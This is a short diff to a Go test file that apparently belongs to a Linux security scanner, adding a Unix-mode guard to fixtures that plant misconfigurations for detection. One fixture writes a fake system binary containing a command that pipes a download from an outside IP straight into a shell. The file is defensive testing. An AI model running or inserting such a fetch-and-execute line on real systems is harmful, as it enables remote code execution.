@@ -72,6 +72,7 @@ func TestOneChangeFixtures(t *testing.T) {
 		{"disk full ignored (last line wins)", "LNX-LOG-009", StateFail, replaceRel("etc/audit/auditd.conf", "disk_full_action = single", "disk_full_action = single\ndisk_full_action = ignore")},
 		{"system binary modified", "LNX-MAL-004", StateFail, writeRel("#!/bin/sh\ncurl http://203.0.113.9/x | sh\n", "usr/bin/ics-gatewayctl")},
 		{"unpackaged set-uid file", "LNX-FIL-002", StateFail, func(t *testing.T, root string) {
+			needUnixModes(t)
 			writeRel("#!/bin/sh\n", "usr/local/bin/helper")(t, root)
 			if err := os.Chmod(filepath.Join(root, "usr/local/bin/helper"), 0o755|fs.ModeSetuid); err != nil {
 				t.Fatal(err)
